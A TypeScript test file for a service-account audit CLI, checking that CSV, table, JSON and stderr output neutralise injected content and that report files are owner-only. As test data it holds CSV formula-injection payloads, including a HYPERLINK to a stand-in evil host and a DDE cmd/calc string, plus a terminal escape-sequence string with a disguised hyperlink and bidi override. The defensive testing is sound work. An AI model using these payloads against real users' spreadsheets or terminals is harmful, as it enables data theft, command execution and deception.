import { chmodSync, mkdtempSync, readFileSync, statSync, writeFileSync } from "fs";
import { tmpdir } from "os";
import { join } from "path";
import { formatCsv, formatJson, formatTable, type AuditedAccount, type AuditReport } from "../../src/cli/auditReport";
import { describeFailure, runCli } from "../../src/cli/main";
import { say } from "../../src/cli/terminal";
import { startEmulator, type RunningEmulator } from "../support/emulator";

const account = (fullname: string, domainname = "svc@contoso.com"): AuditedAccount => ({
  systemuserid: "5e000000-0000-4000-8000-000000000001",
  fullname,
  domainname,
  status: "non-compliant",
  failing: ["primary-email"],
  roles: [],
  access: [`holds ${fullname}`],
});
const report = (...accounts: AuditedAccount[]): AuditReport => ({
  summary: { compliant: 0, needsAttention: 0, nonCompliant: accounts.length, nonInteractiveUsed: 1, nonInteractiveMax: 7 },
  accounts,
});
/** A hyperlink (OSC 8), a window title (OSC 0), a cursor move and a right-to-left override: what a display name can smuggle. */
// eslint-disable-next-line no-control-regex -- the characters these tests look for
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
const HOSTILE = "\u001b]8;;http://evil.example\u0007Click\u001b]8;;\u0007 \u001b]0;pwned\u0007\u001b[2J\u009b31m\u202eexe.txt\rOK";

describe("CSV cells that would start a formula come out as text", () => {
  it.each([
    ['=HYPERLINK("http://evil/?"&A1,"click")', `"'=HYPERLINK(""http://evil/?""&A1,""click"")"`],
    ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1:A2)", "'@SUM(A1:A2)"],
    ["\t=1+1", "'\t=1+1"],
    ["\uff1d1+1", "'\uff1d1+1"],
  ])("%j", (name, cell) => {
    const [, row] = formatCsv(report(account(name)))
      .trimEnd()
      .split("\n");
    expect(row.split(",").slice(1).join(",")).toMatch(new RegExp(`^${cell.replace(/[|\\{}()[\]^$+*?.]/g, "\\$&")},`));
  });

  it("a line feed first, as OWASP lists it, too; and no control character survives", () => {
    const csv = formatCsv(report(account("\n=1+1"), account(HOSTILE)));
    expect(csv).toContain(`"'\n=1+1"`);
    expect(csv).not.toMatch(CONTROL);
  });
});

describe("what reaches a terminal carries no control sequence", () => {
  it("the table: names on one line, every escape, bell, C1 and bidi control dropped", () => {
    const table = formatTable(report(account(HOSTILE, "line\nbreak@contoso.com")));
    expect(table).not.toMatch(CONTROL);
    expect(table).toContain("]8;;http://evil.exampleClick]8;; ]0;pwned[2J31mexe.txtOK");
    expect(table).toContain("line break@contoso.com");
  });

  it("the JSON: the same data, its raw controls escaped", () => {
    const json = formatJson(report(account(HOSTILE)));
    expect(json).not.toMatch(CONTROL);
    expect((JSON.parse(json) as AuditReport).accounts[0].fullname).toBe(HOSTILE);
  });

  it("lines said on stderr and failures described", () => {
    const written: string[] = [];
    const spy = jest.spyOn(process.stderr, "write").mockImplementation((chunk) => (written.push(String(chunk)), true));
    try {
      say(`Imported ${HOSTILE}`);
    } finally {
      spy.mockRestore();
    }
    expect(written.join("")).not.toMatch(CONTROL);
    expect(describeFailure(new Error(HOSTILE))).not.toMatch(CONTROL);
  });
});

const posix = process.platform === "win32" ? describe.skip : describe;

posix("audit --out writes a file its owner alone can read", () => {
  let dataverse: RunningEmulator;
  beforeAll(async () => (dataverse = await startEmulator()));
  afterAll(() => dataverse?.close());
  afterEach(() => (process.exitCode = undefined));

  it("a new file, and one that existed readable by everyone", async () => {
    const dir = mkdtempSync(join(tmpdir(), "svcacct-out-"));
    const fresh = join(dir, "fresh.csv");
    const existing = join(dir, "existing.csv");
    writeFileSync(existing, "old");
    chmodSync(existing, 0o644);
    for (const file of [fresh, existing])
      await runCli(["node", "svcacct", "audit", "--url", dataverse.url, "--format", "csv", "--out", file]);
    expect(statSync(fresh).mode & 0o777).toBe(0o600);
    expect(statSync(existing).mode & 0o777).toBe(0o600);
    expect(readFileSync(existing, "utf8")).toMatch(/^systemuserid,fullname/);
  });
});
